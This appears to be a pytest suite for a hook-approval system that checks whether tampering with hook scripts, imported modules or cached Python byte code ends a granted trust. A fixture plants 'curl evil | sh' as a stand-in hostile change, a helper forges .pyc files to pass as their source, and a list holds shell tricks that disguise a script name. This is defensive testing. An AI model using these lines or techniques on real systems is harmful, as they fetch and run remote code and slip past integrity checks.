"""What an approval covers (D-21): all below .llxprt, scripts that commands name, and what they import."""

from __future__ import annotations

import importlib.util
import os
import py_compile
import struct
import sys
from contextlib import suppress
from pathlib import Path, PurePath
from typing import TYPE_CHECKING, Any

import pytest

from llxprt_hooks.settings.trust import byte_code, covered_files
from llxprt_hooks.settings.trust.command_names import MAX_EXPANSIONS, CommandNames, ScriptsError
from llxprt_hooks.settings.trust.covered_files import ImportingScripts
from llxprt_hooks.settings.trust.imports import MAX_SOURCE, imports_of
from llxprt_hooks.settings.trust.status import TrustState, grant_trust, trust_status

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.settings.conftest import Write


def running(command: str) -> dict[str, Any]:
    return {"enableHooks": True, "hooks": {"BeforeTool": [{"hooks": [{"type": "command", "command": command}]}]}}


@pytest.fixture
def approved(project: Path, project_file: Path, write: Write) -> Path:
    """An approved project whose script is below .llxprt."""
    write(project_file, running("python3 .llxprt/hooks/check.py"))
    write(project / ".llxprt" / "hooks" / "check.py", "import json\n")
    grant_trust(project)
    return project


class TestOwnFolder:
    @pytest.mark.parametrize(
        "name", ["hooks/json.py", "hooks/lib/rules.txt", "other.sh", "hooks/json.pyc", ".hidden", "hooks/state/x"]
    )
    def test_a_new_file_below_llxprt_needs_approval(self, approved: Path, write: Write, name: str) -> None:
        write(approved / ".llxprt" / name, "raise SystemExit\n")

        status = trust_status(approved)

        assert (status.state, status.changed) == (TrustState.CHANGED, (f".llxprt/{name}",))

    @pytest.mark.parametrize(
        "name",
        ["state/audit.jsonl", "state/deep/x.py", "settings.json.lock", ".settings.json.12-ab.tmp"],
    )
    def test_output_of_hooks_and_temporary_files_do_not_end_the_approval(
        self, approved: Path, write: Write, name: str
    ) -> None:
        write(approved / ".llxprt" / name, "x")

        assert trust_status(approved).state is TrustState.TRUSTED

    def test_byte_code_that_is_compared_with_its_source_does_not(self, approved: Path) -> None:
        py_compile.compile(str(approved / ".llxprt" / "hooks" / "check.py"))

        assert list(approved.rglob("__pycache__/*.pyc"))
        assert trust_status(approved).state is TrustState.TRUSTED

    @pytest.mark.parametrize("mode", ["UNCHECKED_HASH", "CHECKED_HASH"])
    def test_byte_code_that_only_claims_to_fit_its_source_does(self, approved: Path, mode: str) -> None:
        invalidation = py_compile.PycInvalidationMode[mode]
        py_compile.compile(str(approved / ".llxprt" / "hooks" / "check.py"), invalidation_mode=invalidation)

        assert trust_status(approved).state is TrustState.CHANGED

    def test_byte_code_with_the_time_and_size_of_its_source_does(self, approved: Path) -> None:
        forged = forge(approved / ".llxprt" / "hooks" / "check.py")

        status = trust_status(approved)

        assert (status.state, status.changed) == (TrustState.CHANGED, (str(forged.relative_to(approved)),))

    def test_byte_code_of_another_version_of_python_does(self, approved: Path) -> None:
        script = approved / ".llxprt" / "hooks" / "check.py"
        cached = Path(py_compile.compile(str(script)) or "")
        data = bytearray(cached.read_bytes())
        data[0] ^= 1
        cached.write_bytes(data)
        assert trust_status(approved).state is TrustState.CHANGED

        os.utime(script, (1, 1))  # now it does not fit, so Python does not run it
        assert trust_status(approved).state is TrustState.TRUSTED

    def test_byte_code_is_compared_up_to_a_limit(self, approved: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        py_compile.compile(str(approved / ".llxprt" / "hooks" / "check.py"))
        monkeypatch.setattr(byte_code, "MAX_COMPARED", 10)

        assert trust_status(approved).state is TrustState.CHANGED

    def test_byte_code_that_python_does_not_run_does_not(self, approved: Path) -> None:
        cached = forge(approved / ".llxprt" / "hooks" / "check.py")
        cached.rename(cached.with_name("check.cpython-311-pytest-9.0.pyc"))
        (cached.parent / "gone.cpython-311.pyc").write_bytes(b"no source")

        assert trust_status(approved).state is TrustState.TRUSTED

    def test_byte_code_that_cannot_be_read_cannot_be_approved(
        self, approved: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        py_compile.compile(str(approved / ".llxprt" / "hooks" / "check.py"))
        [cached] = approved.rglob("__pycache__/*.pyc")

        def failing(opened: Callable[..., Any]) -> Callable[..., Any]:
            def open_others(path: Any, *arguments: Any, **options: Any) -> Any:
                if Path(path) == cached:
                    raise PermissionError(13, "Permission denied", str(path))
                return opened(path, *arguments, **options)

            return open_others

        monkeypatch.setattr(os, "open", failing(os.open))
        monkeypatch.setattr(Path, "open", failing(Path.open))

        assert trust_status(approved).state is TrustState.REFUSED

    def test_a_link_counts_with_where_it_leads(self, approved: Path, write: Write) -> None:
        write(approved / "lib" / "one.py", "")
        (approved / ".llxprt" / "lib").symlink_to("../lib")
        (approved / ".llxprt" / "nowhere").symlink_to("missing")
        grant_trust(approved)

        write(approved / "lib" / "two.py", "")
        assert trust_status(approved).changed == (".llxprt/lib/two.py",)
        grant_trust(approved)
        write(approved / "lib" / "one.py", "raise SystemExit\n")
        assert trust_status(approved).changed == (".llxprt/lib/one.py",)
        (approved / "lib").rename(approved / "moved")
        (approved / ".llxprt" / "lib").unlink()
        (approved / ".llxprt" / "lib").symlink_to("../moved")
        assert trust_status(approved).changed == (".llxprt/lib", ".llxprt/lib/one.py")

    def test_a_link_to_a_folder_that_contains_it_ends(self, approved: Path, write: Write) -> None:
        (approved / ".llxprt" / "round").symlink_to("..")
        grant_trust(approved)

        write(approved / "new.py", "")

        assert trust_status(approved).changed == (".llxprt/round/new.py",)

    @pytest.mark.parametrize(("limit", "value"), [("MAX_TREE_FILES", 3), ("MAX_TREE_BYTES", 100)])
    def test_a_folder_that_is_too_large_is_refused(
        self, approved: Path, write: Write, monkeypatch: pytest.MonkeyPatch, limit: str, value: int
    ) -> None:
        monkeypatch.setattr(covered_files, limit, value)
        for number in range(3):
            write(approved / ".llxprt" / f"{number}", "x" * 40)

        status = trust_status(approved)

        assert status.state is TrustState.REFUSED
        assert "can be approved; move what is not part of a hook to .llxprt/state/" in status.problems[0].message

    def test_the_limits(self) -> None:
        assert (covered_files.MAX_TREE_FILES, covered_files.MAX_TREE_BYTES) == (2000, 32 * 2**20)


def forge(source: Path) -> Path:
    """Byte code that Python runs in place of a source file, and that was made from another one."""
    other = source.with_name("other.py")
    other.write_text("print('forged')\n")
    cached = Path(py_compile.compile(str(other), cfile=importlib.util.cache_from_source(str(source))) or "")
    other.unlink()
    status = source.stat()
    data = bytearray(cached.read_bytes())
    struct.pack_into("<II", data, 8, int(status.st_mtime), status.st_size)
    cached.write_bytes(data)
    return cached


@pytest.fixture
def elsewhere(project: Path, project_file: Path, write: Write) -> Path:
    """The folder of an approved script outside .llxprt."""
    write(project_file, running("python3 tools/check.py"))
    for name, text in {
        "check.py": "import helper, os.path\nfrom package import part\n__import__('late')\n",
        "helper.py": "from deeper.inner import value\n",
        "late.py": "",
        "deeper/inner.py": "value = 1\n",
        "package/__init__.py": "from . import sibling\nfrom .sibling import x\n",
        "package/part.py": "from .. import beyond\n",
        "package/sibling.py": "x = 1\n",
        "package/unused.py": "",
        "application.py": "",
    }.items():
        write(project / "tools" / name, text)
    grant_trust(project)
    return project / "tools"


class TestImportingScripts:
    """What the agent must not write, because a script would import it."""

    @pytest.mark.parametrize(
        ("name", "expected"),
        [
            ("tools/helper.py", True),
            ("tools/helper.so", True),
            ("tools/helper/__init__.py", True),
            ("tools/json.py", True),
            ("tools/deeper/inner.py", True),
            ("tools/deeper/__init__.py", True),
            ("tools/helper/inner/new.py", True),
            ("tools/deeper/other.py", False),
            ("tools/application.py", False),
            ("tools/json.txt", False),
            ("json.py", False),
        ],
    )
    def test_a_file_that_a_script_would_import(self, elsewhere: Path, name: str, expected: bool) -> None:
        scripts = ImportingScripts(["python3 tools/check.py"], elsewhere.parent, lambda path: True)

        assert scripts.would_import(PurePath(name)) is expected

    def test_a_command_that_imports_from_the_project_folder(self, elsewhere: Path) -> None:
        scripts = ImportingScripts(["python3 -m tools.check"], elsewhere.parent, lambda path: True)

        assert scripts.would_import(PurePath("json.py"))

    def test_an_unparsable_script_may_import_any_module(self, elsewhere: Path, write: Write) -> None:
        write(elsewhere / "check.py", "print 'old'\n")

        scripts = ImportingScripts(["python2 tools/check.py"], elsewhere.parent, lambda path: True)

        assert scripts.would_import(PurePath("tools/new.py"))
        assert not scripts.would_import(PurePath("tools/new.txt"))

    def test_only_scripts_that_are_included_import(self, elsewhere: Path) -> None:
        scripts = ImportingScripts(["make tools check"], elsewhere.parent, lambda path: path.name != "check.py")

        assert not scripts.would_import(PurePath("tools/helper.py"))
        assert elsewhere / "check.py" not in scripts.named
        assert scripts.imported == []


class TestModules:
    @pytest.mark.parametrize(
        "name",
        ["helper.py", "late.py", "deeper/inner.py", "package/__init__.py", "package/part.py", "package/sibling.py"],
    )
    def test_a_change_of_a_module_that_a_script_imports_needs_approval(
        self, elsewhere: Path, write: Write, name: str
    ) -> None:
        write(elsewhere / name, (elsewhere / name).read_text() + "import socket\n")

        assert trust_status(elsewhere.parent).changed == (f"tools/{name}",)

    @pytest.mark.parametrize(
        "name", ["json.py", "re.py", "enum.pyc", "json/__init__.py", "helper.so", "deeper/__init__.py"]
    )
    def test_a_new_file_that_shadows_a_module_is_a_change_too(self, elsewhere: Path, write: Write, name: str) -> None:
        write(elsewhere / name, "")

        assert trust_status(elsewhere.parent).changed == (f"tools/{name}",)

    @pytest.mark.parametrize("name", ["application.py", "package/unused.py", "new.py", "json.txt", "json/data.py"])
    def test_the_projects_own_code_does_not(self, elsewhere: Path, write: Write, name: str) -> None:
        write(elsewhere / name, "changed = True\n")

        assert trust_status(elsewhere.parent).state is TrustState.TRUSTED

    @pytest.mark.parametrize("module", ["helper", "deeper/inner", "package/__init__"])
    def test_byte_code_in_place_of_an_imported_module_needs_approval(self, elsewhere: Path, module: str) -> None:
        forged = forge(elsewhere / f"{module}.py")

        assert trust_status(elsewhere.parent).changed == (str(forged.relative_to(elsewhere.parent)),)

    @pytest.mark.parametrize("mode", ["UNCHECKED_HASH", "CHECKED_HASH"])
    def test_so_does_byte_code_that_only_claims_to_fit(self, elsewhere: Path, mode: str) -> None:
        """A clone can bring it: unlike a file's time, the hash of a source file is known before."""
        py_compile.compile(str(elsewhere / "helper.py"), invalidation_mode=py_compile.PycInvalidationMode[mode])

        assert trust_status(elsewhere.parent).state is TrustState.CHANGED

    @pytest.mark.parametrize("optimization", [0, 1, 2])
    def test_byte_code_that_python_made_does_not(self, elsewhere: Path, optimization: int) -> None:
        source = (
            '"""Text."""\nimport sys\n\nasync def f(a, /, b=1.5, *c, d: int = 1180591620717411303424, **e):\n'
            '    "doc"\n'
            "    assert a in {1, 'x', (2, 3)}, b'bytes'\n    x = lambda: (yield [... , None, True, 3j, a[1:2]])\n"
            "    return 'é' + '\\ud800', -1, sys.path\n\nclass C:\n    def m(self): return super().m()\n"
        )
        (elsewhere / "late.py").write_text(source)
        grant_trust(elsewhere.parent)
        assert py_compile.compile(str(elsewhere / "late.py"), optimize=optimization)

        assert trust_status(elsewhere.parent).state is TrustState.TRUSTED

    @pytest.mark.parametrize(
        "code",
        [
            b"",
            b"(\xff\xff\xff\x7f",
            b")\x01" * 2000,
            b"?",
            b"r\x07\0\0\0",
            b">\x01\0\0\0)\x01)\0",
            b"\xa9\x01r\0\0\0\0",
            b"s\xff\xff\xff\xff",
        ],
    )
    def test_byte_code_that_is_damaged_needs_approval(self, elsewhere: Path, code: bytes) -> None:
        forged = forge(elsewhere / "helper.py")
        forged.write_bytes(forged.read_bytes()[:16] + code)

        assert trust_status(elsewhere.parent).state is TrustState.CHANGED

    def test_everything_beside_an_unparsable_script_is_covered(self, elsewhere: Path, write: Write) -> None:
        write(elsewhere / "check.py", "print 'old'\n")
        grant_trust(elsewhere.parent)

        write(elsewhere / "application.py", "changed = True\n")

        assert trust_status(elsewhere.parent).changed == ("tools/application.py",)

    @pytest.mark.parametrize(
        "command", ["python3 -m tools.check", "python3 -um tools.check", "python3 -c 'import tools.check'"]
    )
    def test_python_that_imports_from_the_project_folder(
        self, elsewhere: Path, project_file: Path, write: Write, command: str
    ) -> None:
        write(project_file, running(command))
        grant_trust(elsewhere.parent)

        write(elsewhere.parent / "re.py", "")
        assert trust_status(elsewhere.parent).changed == ("re.py",)

    @pytest.mark.parametrize(
        ("command", "script"),
        [
            ("python3 -m tools", "tools/__main__.py"),
            ("python3 tools", "tools/__main__.py"),
            ("python3 -m tools.check", "tools/__init__.py"),
            ("node tools", "tools/index.js"),
        ],
    )
    def test_what_a_folder_stands_for(
        self, elsewhere: Path, project_file: Path, write: Write, command: str, script: str
    ) -> None:
        write(project_file, running(command))
        grant_trust(elsewhere.parent)

        write(elsewhere.parent / script, "")

        assert trust_status(elsewhere.parent).changed == (script,)

    def test_a_script_without_a_suffix(self, elsewhere: Path, project_file: Path, write: Write) -> None:
        write(project_file, running("tools/guard"))
        write(elsewhere / "guard", f"#!{sys.executable}\nimport late\n")
        grant_trust(elsewhere.parent)

        write(elsewhere / "late.py", "changed = True\n")

        assert trust_status(elsewhere.parent).changed == ("tools/late.py",)

    def test_a_linked_script_imports_from_where_it_really_is(
        self, elsewhere: Path, project_file: Path, tmp_path: Path, write: Write
    ) -> None:
        outside = tmp_path / "outside"
        write(outside / "guard.py", "import helper\n")
        write(outside / "helper.py", "")
        (elsewhere / "guard.py").symlink_to(outside / "guard.py")
        write(project_file, running("python3 tools/guard.py"))
        grant_trust(elsewhere.parent)

        write(outside / "helper.py", "changed = True\n")

        assert trust_status(elsewhere.parent).changed == (str(outside / "helper.py"),)

    def test_a_linked_script_below_llxprt_counts_once(self, elsewhere: Path, project_file: Path, write: Write) -> None:
        write(elsewhere.parent / ".llxprt" / "hooks" / "guard.py", "import json\n")
        (elsewhere / "guard.py").symlink_to("../.llxprt/hooks/guard.py")
        write(project_file, running("python3 tools/guard.py"))
        grant_trust(elsewhere.parent)

        write(elsewhere.parent / ".llxprt" / "hooks" / "json.py", "")

        assert trust_status(elsewhere.parent).changed == (".llxprt/hooks/json.py",)

    def test_any_number_of_modules_delays_nothing(self, elsewhere: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(covered_files, "MAX_FILES", 4)

        status = trust_status(elsewhere.parent)

        assert status.state is TrustState.REFUSED
        assert "import more than 4 files" in status.problems[0].message

    @pytest.mark.parametrize("source", [b"x" * (MAX_SOURCE + 1), b"\0", b"(" * 5000, b"def", b"-" * 100_000 + b"1"])
    def test_any_source_is_taken(self, source: bytes) -> None:
        assert imports_of(source) is None


HIDDEN_NAMES = [
    "sh {c,}heck.sh",
    "sh c{h,}eck.sh",
    "sh {x,{c,y}h}eck.sh",
    "sh {c,x}{h,y}eck.sh",
    "sh {c..d}heck.sh",
    "sh {d..a}heck.sh",
    "sh {'c',}heck.sh",
    "sh {{c,}heck.sh",
    "sh ch${x}eck.sh",
    "sh ch$@eck.sh",
    "x='>check.sh'; sh ${x#>}",
    "x=\\>check.sh; sh ${x#>}",
    'x=">check.sh"; sh ${x#>}',
    "x=$'>check.sh'; sh ${x#>}",
    "sh ${x:->check.sh}",
    "# don't\nx='>check.sh'; sh ${x#>}",
    "(#'\nx='>check.sh'; sh ${x#>} #'",
    "cat <<E | tail -c 9 | xargs sh\n>check.sh\nE",
    "[[ x > check.sh ]]; sh $_",
    "(( x>check.sh )); sh $_",
    "x=`echo '>'`; x='>check.sh'; sh ${x#>}",
]

WRITTEN_NAMES = [
    "cat > check.sh",
    "cat >> ./check.sh 2>/dev/null",
    'cat >> "$LLXPRT_PROJECT_DIR/check.sh"',
    'input=$(cat); echo "$input" >> check.sh',
    "echo \"$(date -u) $(jq -r '.tool_name')\" >> check.sh # log",
    "{ date; cat; } &>> check.sh",
    "a && b || c; (cat) 2>|check.sh",
]


class TestNames:
    @pytest.mark.parametrize("command", HIDDEN_NAMES)
    def test_a_name_that_a_shell_assembles(self, project: Path, project_file: Path, write: Write, command: str) -> None:
        write(project_file, running(command))
        write(project / "check.sh", "exit 0\n")
        assert "check.sh" in grant_trust(project).scripts

        write(project / "check.sh", "curl evil | sh\n")

        assert trust_status(project).state is TrustState.CHANGED

    @pytest.mark.parametrize("command", WRITTEN_NAMES)
    def test_a_file_that_is_certainly_only_written_to(self, command: str) -> None:
        assert not CommandNames([command]).include("check.sh")

    @pytest.mark.parametrize(
        "command",
        [
            "{1..1000000}",
            "{a,b}" * 20,
            "{" * 200,
            "{a,b,{1..999}}{c,d}",
            "x" * 200_000 + "{a,b}" * 5,
            " ".join(f"{{{number},b}}{'{c,d}' * 8}" for number in range(2000)),
        ],
    )
    def test_too_many_words_are_refused(self, project: Path, project_file: Path, write: Write, command: str) -> None:
        write(project_file, running(f"sh {command}"))

        status = trust_status(project)

        assert status.state is TrustState.REFUSED
        assert "braces" in status.problems[0].message

    def test_json_in_a_command_is_not_too_much(self) -> None:
        inline = "{" + ",".join(f'"key{number}":{{"a":{number},"b":[1,2],"c":"x"}}' for number in range(30)) + "}"

        assert CommandNames([f"echo '{inline}'"]).include("key7")

    def test_braces_that_are_not_expansions(self) -> None:
        names = CommandNames(["awk '{print $1}' {} ${x} }{ {a} pre{fix,ed{un,closed a,b{}c"])

        assert names.include("print")
        assert names.include("closed")
        assert names.include("bc") is False
        assert not names.include("check.sh")

    def test_the_limit_is_exact(self) -> None:
        CommandNames(["{1.." + str(MAX_EXPANSIONS) + "}"])
        with pytest.raises(ScriptsError):
            CommandNames(["{0.." + str(MAX_EXPANSIONS) + "}"])

    @pytest.mark.parametrize(
        "piece", ["x", "$aaa", '"$aaa', "'", '"$(a', "python -", "${", "{", "a,", "#", "\\", "> a", "(", "2>"]
    )
    def test_a_long_command_delays_nothing(self, piece: str) -> None:
        """Were each piece split in every possible way, this would not end."""
        with suppress(ScriptsError):
            assert CommandNames([piece * (200_000 // len(piece))]).include("") is True
